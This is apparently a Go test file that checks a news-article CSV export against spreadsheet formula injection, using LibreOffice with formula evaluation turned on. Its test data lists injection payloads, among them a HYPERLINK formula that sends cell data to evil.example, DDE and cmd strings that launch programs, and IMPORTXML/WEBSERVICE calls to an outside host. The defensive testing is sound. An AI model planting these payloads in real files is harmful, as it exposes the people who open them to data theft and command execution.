package main

import (
	"encoding/json"
	"encoding/xml"
	"errors"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// formulas are what a spreadsheet would run, were it the beginning of a cell.
var formulas = []string{
	`=HYPERLINK("https://evil.example/?"&A1,"click here")`, `+1+1`, `-2+3`, `@SUM(1)`, `=cmd|' /C calc'!A0`, `=DDE("cmd";"/C calc";"__DdeLink_60_870516294")`,
	`=1+1`, `-2+3+cmd|' /C calc'!A0`, "\t=1+1", "\r=1+1", `＝1+1`, `=IMPORTXML("https://evil.example","//a")`, `=WEBSERVICE("https://evil.example")`,
}

// evaluating is LibreOffice's filter for CSV: comma, quotation mark, UTF-8, from the first line; the last token has formulas evaluated.
const evaluating = "CSV:44,34,76,1,,0,false,true,false,false,false,0,true"

// A spreadsheet that evaluates formulas in CSV finds none in an export, and all of the text.
func TestSpreadsheetRunsNothing(t *testing.T) {
	soffice := tool(t, "soffice", "libreoffice-calc-nogui")
	dir := exported(t, hostileArticles(t), "--text", "full")
	control := filepath.Join(t.TempDir(), "control.csv")
	if err := os.WriteFile(control, []byte("a,b\n=1+1,x\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	out := converted(t, soffice, control, filepath.Join(dir, "articles.csv"), filepath.Join(dir, "paragraphs.csv"), filepath.Join(dir, "quotes.csv"))
	if n, _ := sheet(t, filepath.Join(out, "control.fods")); n != 1 {
		t.Errorf("the control has %d formulas, want 1: this spreadsheet evaluates none, and the test shows nothing", n)
	}
	for _, name := range []string{"articles", "paragraphs", "quotes"} {
		n, text := sheet(t, filepath.Join(out, name+".fods"))
		if n != 0 {
			t.Errorf("%s: %d cells are formulas", name, n)
		}
		if name != "quotes" {
			survived(t, name, text)
		}
	}
}

func survived(t *testing.T, name, text string) {
	t.Helper()
	for _, f := range formulas {
		if !strings.Contains(text, strings.TrimSpace(f)+" said the minister of Russia") {
			t.Errorf("%s: %q is lost", name, f)
		}
	}
}

// hostileArticles are articles whose outlet, title and paragraphs begin with formulas.
func hostileArticles(t *testing.T) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "hostile.jsonl")
	file, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	defer file.Close()
	for _, f := range formulas {
		line := f + " said the minister of Russia, and he praised Ukraine."
		record := map[string]string{"title": line, "outlet": f, "url": f, "text": line + "\n\n“" + f + "”, said Germany. Russia condemned France.\n\n" + line}
		if err := json.NewEncoder(file).Encode(record); err != nil {
			t.Fatal(err)
		}
	}
	return path
}

// converted is a folder with the tables as LibreOffice reads them. The profile is fresh: one in use would refuse to start.
func converted(t *testing.T, soffice string, tables ...string) string {
	t.Helper()
	out := t.TempDir()
	args := []string{"-env:UserInstallation=file://" + filepath.ToSlash(t.TempDir()), "--headless", "--infilter=" + evaluating, "--convert-to", "fods", "--outdir", out}
	if text, exit := runTool(t, exec.Command(soffice, append(args, tables...)...)); exit != 0 {
		t.Fatalf("exit %d\n%s", exit, text)
	}
	return out
}

// sheet counts the cells of a flat spreadsheet that have a formula, and returns all its text.
func sheet(t *testing.T, path string) (formulas int, text string) {
	t.Helper()
	file, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer file.Close()
	var b strings.Builder
	for d := xml.NewDecoder(file); ; {
		token, err := d.Token()
		if errors.Is(err, io.EOF) {
			return formulas, b.String()
		}
		if err != nil {
			t.Fatal(path, err)
		}
		switch x := token.(type) {
		case xml.StartElement:
			for _, a := range x.Attr {
				if a.Name.Local == "formula" {
					formulas++
				}
			}
		case xml.CharData:
			b.Write(x)
		}
	}
}
